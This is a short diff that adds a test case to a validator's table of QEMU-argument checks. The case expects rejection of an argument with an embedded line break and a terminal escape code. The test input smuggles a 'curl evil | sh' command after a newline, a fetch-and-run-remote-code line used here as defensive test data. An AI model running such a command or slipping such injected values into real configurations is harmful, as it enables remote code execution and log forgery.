@@ -100,6 +100,12 @@ const CASES: readonly Case[] = [
     message: '`-netdev` cannot be used here: the name "net0" belongs to a part that Castra makes.',
   },
   {
+    title: 'an argument of QEMU with a line break, which would be a line of its own in the log',
+    text: `${VM}qemu_args = ["-append", «"a\\ncurl evil | sh"», «"\\u001b[2J"»]`,
+    codes: Array(2).fill('config/qemu-args-conflict'),
+    message: 'An argument of QEMU cannot have a line break or another control character.',
+  },
+  {
     title: 'arguments of QEMU that a key does better',
     text: `${VM}qemu_args = [«"-m"», "1G", «"-enable-kvm"», «"-netdev"», "user,id=n,hostfwd=tcp::1-:2", «"-machine"», "q35,accel=kvm", "-machine", "q35"]`,
     codes: Array(4).fill('config/qemu-args-key?'),
